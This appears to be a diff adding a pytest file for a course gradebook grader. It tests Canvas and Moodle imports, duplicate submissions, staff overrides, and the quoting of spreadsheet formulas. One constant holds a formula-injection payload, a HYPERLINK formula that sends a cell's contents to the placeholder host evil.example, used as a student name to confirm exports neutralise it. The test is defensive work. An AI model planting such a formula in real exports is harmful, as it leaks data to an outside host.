@@ -1,0 +1,147 @@
+"""The class gradebook: one row per student, the duplicate rule, staff overrides that survive
+regrades, Canvas and Moodle import files, and no way for a name to become a formula.
+
+`python tests/test_gradebook.py` rewrites the golden export files after a deliberate change."""
+import csv
+import io
+import json
+import os
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from conftest import FIXTURES, SUBMISSIONS, run_grader
+from grader.errors import SubmissionError
+from grader.exports import CANVAS_FILE, MOODLE_FILE
+from grader.gradebook import cell, counted
+from grader.inputs import Identity, Submission
+from grader.overrides import parse
+
+GOLDEN = Path(__file__).resolve().parent / "fixtures" / "gradebook"
+FAST = ["--cell-timeout", "4", "--call-timeout", "2", "--seed", "7"]
+HOSTILE = '=HYPERLINK("evil.example?"&A1,"x")'
+
+
+def test_a_cell_a_spreadsheet_would_run_is_quoted():
+    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=x", HOSTILE):
+        assert cell(text).startswith("'")
+    assert cell("Ann Lee") == "Ann Lee" and cell("") == "" and cell(None) == ""
+
+
+def test_the_latest_of_a_students_files_counts(tmp_path):
+    def submission(name, canvas_id=None, age=0):
+        path = tmp_path / name
+        path.write_text("{}")
+        os.utime(path, (1_700_000_000 - age, 1_700_000_000 - age))
+        return Submission(path, str(path), "111", name, identity=Identity("111", "doejane", "canvas", canvas_id))
+    by_canvas = counted([submission("a.ipynb", 5, age=0), submission("b.ipynb", 9, age=100)])
+    assert by_canvas["b.ipynb"][0] and not by_canvas["a.ipynb"][0]   # the larger submission id, though older
+    assert "by Canvas submission id" in by_canvas["b.ipynb"][1] and "not counted: a.ipynb" in by_canvas["b.ipynb"][1]
+    by_date = counted([submission("c.ipynb", age=50), submission("d.ipynb", age=10)])
+    assert by_date["d.ipynb"] == (True, "counted: d.ipynb, the latest of 2 files (by file date); not counted: "
+                                        "c.ipynb")
+
+
+@pytest.mark.parametrize("text, words", [
+    ("student,reason\n1,x\n", "either score"),
+    ("student,score,points,reason\n1,2,3,x\n", "either score"),
+    ("student,score,reason\n1,ten,late\n", "line 2: score 'ten' is not a number"),
+    ("student,score,reason\n1,10,\n", "line 2: give a reason"),
+    ("student,points,reason\n1,2,a\n1,3,b\n", "line 3: a second override for 1"),
+    ("student,score,reason\n1,nan,x\n", "finite"),
+])
+def test_a_bad_overrides_file_is_one_line_naming_the_line(tmp_path, text, words):
+    path = tmp_path / "o.csv"
+    path.write_text(text)
+    with pytest.raises(SubmissionError, match=words.replace("(", r"\(")):
+        parse(path)
+
+
+def _notebook(name: str) -> bytes:
+    return (SUBMISSIONS / name).read_bytes()
+
+
+def exports_class(tmp_path: Path) -> tuple[Path, Path]:
+    """A Canvas zip (a resubmission, a late one named in lower case) and a Moodle zip (a
+    student whose full name is a spreadsheet formula)."""
+    canvas = tmp_path / "canvas.zip"
+    with zipfile.ZipFile(canvas, "w") as zf:
+        zf.writestr("doejane_111_1001_hw.ipynb", _notebook("worked_solution.ipynb"))
+        zf.writestr("doejane_111_1002_hw.ipynb", _notebook("mistake_softmax_axis.ipynb"))
+        zf.writestr("leeann_late_222_1003_hw.ipynb", _notebook("mistake_no_scaling.ipynb"))
+    moodle = tmp_path / "moodle.zip"
+    with zipfile.ZipFile(moodle, "w") as zf:
+        zf.writestr("Bo Chen_31_assignsubmission_file_/attention.ipynb", _notebook("worked_solution.ipynb"))
+        zf.writestr(f"{HOSTILE}_32_assignsubmission_file_/attention.ipynb", (FIXTURES / "not_json.ipynb").read_bytes())
+    return canvas, moodle
+
+
+def read_csv(path: Path) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(path.read_text())))
+
+
+@pytest.mark.slow
+def test_exports_overrides_and_one_row_per_student(tmp_path):
+    canvas, moodle = exports_class(tmp_path)
+    out = tmp_path / "out"
+    overrides = tmp_path / "overrides.csv"
+    overrides.write_text("student,points,reason\n222,+2,regrade request: scaling explained in a comment\n")
+    code, stdout, stderr, _ = run_grader(["grade", canvas, moodle, "-o", out, "--overrides", overrides,
+                                          "--lms-assignment", "Homework 3 (1234)", *FAST])
+    assert code == 0, stderr
+    assert CANVAS_FILE in stdout and MOODLE_FILE in stdout
+    rows = {r["student"]: r for r in read_csv(out / "grades.csv")}
+    assert sorted(rows) == ["111", "222", "31", "32"]
+    assert rows["111"]["submission"] == "doejane_111_1002_hw.ipynb" and rows["111"]["score"] == "6"
+    assert "latest of 2 files (by Canvas submission id)" in rows["111"]["duplicates"]
+    assert rows["222"]["name"] == "leeann" and rows["222"]["graded_score"] == "8" and rows["222"]["score"] == "10"
+    assert rows["32"]["name"].startswith("'=") and rows["32"]["status"] == "error" and rows["32"]["score"] == ""
+    assert "self_attention.fixed" not in (out / "grades.csv").read_text()   # per function, not per check
+    assert rows["111"]["self_attention mistake"] == "softmax over the wrong axis"
+    for name in (CANVAS_FILE, MOODLE_FILE):
+        assert (out / name).read_text() == (GOLDEN / name).read_text(), f"{name} changed; see the module docstring"
+    recorded = json.loads(next(out.glob("222-*/result.json")).read_text())
+    assert recorded["score"] == 8 and recorded["override"]["score"] == 10
+    assert recorded["override"]["reason"].startswith("regrade request")
+
+    # A later run of the same folder, even a forced regrade, keeps the override.
+    code, stdout, stderr, _ = run_grader(["grade", canvas, moodle, "-o", out, "--force", *FAST])
+    assert code == 0, stderr
+    assert {r["student"]: r for r in read_csv(out / "grades.csv")}["222"]["score"] == "10"
+    assert json.loads(next(out.glob("222-*/result.json")).read_text())["override"]["score"] == 10
+
+    # An override for a student the batch does not have stops before any grading.
+    overrides.write_text("student,score,reason\n999,20,typo\n")
+    code, stdout, stderr, _ = run_grader(["grade", canvas, "-o", tmp_path / "other", "--overrides", overrides, *FAST])
+    assert code == 2 and stderr.strip().splitlines() == [
+        "grader: error: override for 999: no submission of that student id in this batch"]
+    assert not list((tmp_path / "other").glob("*/result.json"))
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("inputs", [[], ["notes.txt"]])
+def test_nothing_gradable_is_exit_2_in_one_line(tmp_path, inputs):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for name in inputs:
+        (folder / name).write_text("not a notebook")
+    code, _, stderr, _ = run_grader(["grade", folder, "-o", tmp_path / "out"])
+    assert code == 2 and len(stderr.strip().splitlines()) == 1 and "nothing to grade" in stderr
+
+
+if __name__ == "__main__":
+    import subprocess
+    import tempfile
+    sys.path.insert(0, str(Path(__file__).resolve().parent))
+    with tempfile.TemporaryDirectory() as folder:
+        canvas, moodle = exports_class(Path(folder))
+        overrides = Path(folder) / "overrides.csv"
+        overrides.write_text("student,points,reason\n222,+2,regrade request: scaling explained in a comment\n")
+        subprocess.run(["grader", "grade", canvas, moodle, "-o", Path(folder) / "out", "--overrides", overrides,
+                        "--lms-assignment", "Homework 3 (1234)", *FAST], check=True)
+        GOLDEN.mkdir(parents=True, exist_ok=True)
+        for name in (CANVAS_FILE, MOODLE_FILE):
+            (GOLDEN / name).write_text((Path(folder) / "out" / name).read_text())
+            print((GOLDEN / name).read_text())
